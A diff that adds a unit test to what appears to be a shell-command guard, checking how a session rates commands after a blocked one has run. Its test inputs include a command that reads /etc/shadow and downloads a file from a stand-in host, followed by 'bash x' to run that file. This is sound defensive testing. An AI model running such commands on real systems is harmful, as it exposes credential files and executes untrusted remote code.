@@ -44,6 +44,13 @@ def test_facts_carry_over_in_a_session_and_not_behind_a_block():
     assert aegish.check('cat "$x"', session=session).action == "block"
 
 
+def test_a_blocked_command_that_ran_counts_for_the_next_ones():
+    commands = ["cat /etc/shadow; curl -so x https://example.org/x", "bash x"]
+    guarded, recorded = aegish.Session(machine="other"), aegish.Session(machine="other")
+    assert [guarded.check(text).action for text in commands] == ["block", "warn"]
+    assert [recorded.check(text, ran=True).action for text in commands] == ["block", "block"]
+
+
 def test_a_session_knows_its_directory():
     session = aegish.Session(cwd="/srv", machine="other")
     session.check("cd app")
